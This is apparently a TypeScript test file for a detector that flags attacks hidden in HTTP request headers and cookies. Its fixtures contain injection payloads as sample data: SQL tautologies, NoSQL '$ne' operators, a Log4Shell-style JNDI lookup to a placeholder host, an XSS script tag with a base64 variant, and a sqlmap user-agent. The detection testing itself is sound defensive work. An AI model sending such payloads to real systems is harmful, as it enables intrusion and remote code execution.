import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { ApiCall, HeaderMap } from '../../model/api-call.ts';
import { parseExchange } from '../exchange-parser.ts';
import { contentThreats, isHarmlessHeader } from './content-threats.ts';

function rulesFoundIn(headers: HeaderMap): string[] {
  const call: ApiCall = {
    id: null,
    timeMs: 0,
    method: 'GET',
    scheme: null,
    host: 'api.shop.example',
    path: '/v1/orders',
    query: null,
    status: 200,
    client: { address: null, id: null },
    latencyMs: null,
    request: { headers, body: null, sizeBytes: null },
    response: { headers: null, body: null, sizeBytes: null },
    gateway: null,
    operation: null,
  };
  return contentThreats(parseExchange(call)).map(({ rule }) => rule);
}

const CASES: readonly {
  readonly name: string;
  readonly rule: string;
  /** The value beside another attack, which hides it, and alone. */
  readonly beside: HeaderMap;
  readonly alone: HeaderMap;
}[] = [
  {
    name: 'a tautology beside one in a script',
    rule: 'sql-tautology',
    beside: { 'x-a': "' || this.a == 1 || '", 'x-b': "x' or '7'='7" },
    alone: { 'x-b': "x' or '7'='7" },
  },
  {
    name: 'an operator in JSON beside another',
    rule: 'nosql-operator',
    beside: { 'x-a': '{"name":{"$ne":null}}', 'x-b': '{"tag":{"$ne":null}}' },
    alone: { 'x-b': '{"tag":{"$ne":null}}' },
  },
  {
    name: 'an operator in a cookie beside another',
    rule: 'nosql-operator',
    beside: { cookie: 'a={"name":{"$ne":null}}; b={"user":{"$ne":null}}' },
    alone: { cookie: 'b={"user":{"$ne":null}}' },
  },
];

for (const { name, rule, beside, alone } of CASES) {
  test(`a value that another attack of its call hid is no harmless one: ${name}`, () => {
    rulesFoundIn(beside);
    assert.deepEqual(rulesFoundIn(alone), [rule]);
  });
}

const VALUES: readonly (readonly [string, string, boolean])[] = [
  ['traceparent', '00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01', true],
  ['x-amzn-trace-id', 'Root=1-67891233-abcdef012345678912345678', true],
  ['user-agent', 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)', true],
  ['x-customer', "O'Brien & Sons", true],
  ['x-id', '0f9d2c7b', true],
  ['user-agent', 'sqlmap/1.7', false],
  ['x-id', "1' or '1'='1", false],
  ['x-log', '${jndi:ldap://a.example/a}', false],
  ['x-filter', '{"name":{"$ne":null}}', false],
  ['x-page', '<script>alert(1)</script>', false],
  ['x-packed', 'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', false],
];

for (const [name, value, harmless] of VALUES) {
  test(`${harmless ? 'harmless' : 'not harmless'} by itself: ${name}: ${value.slice(0, 30)}`, () => {
    assert.equal(isHarmlessHeader(name, value), harmless);
    // What is harmless is never found; asked after the search has remembered it, too.
    if (harmless) assert.deepEqual(rulesFoundIn({ [name]: value }), []);
    assert.equal(isHarmlessHeader(name, value), harmless);
  });
}
